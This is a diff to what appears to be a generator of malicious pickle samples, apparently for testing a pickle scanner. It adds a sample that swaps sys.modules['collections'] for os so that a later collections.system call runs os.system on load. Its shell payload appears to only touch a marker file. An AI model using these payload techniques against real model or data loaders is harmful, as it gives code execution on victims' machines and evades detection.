@@ -824,6 +824,16 @@ def _atexit(marker: str) -> bytes:
     return program(call(G("atexit", "register"), G("os", "system"), touch_shell(marker)), proto=2)
 
 
+@_sample("object_sys_modules_swap", FAMILY_OBJECT,
+         "operator.setitem(sys.modules, 'collections', os): a later GLOBAL collections.system is os.system")
+def _sys_modules_swap(marker: str) -> bytes:
+    modules = call(G("builtins", "getattr"), call(G("builtins", "__import__"), "sys"), "modules")
+    swap = call(G("operator", "setitem"), modules, "collections", call(G("builtins", "__import__"), "os"))
+    a = Asm(4).emit(swap).pop()
+    a.emit(call(G("collections", "system"), touch_shell(marker))).stop()
+    return a.bytes()
+
+
 def build(name: str, marker: str) -> bytes:
     """The bytes of sample `name` with its payload aimed at `marker`."""
     return SAMPLES[name].build(marker)
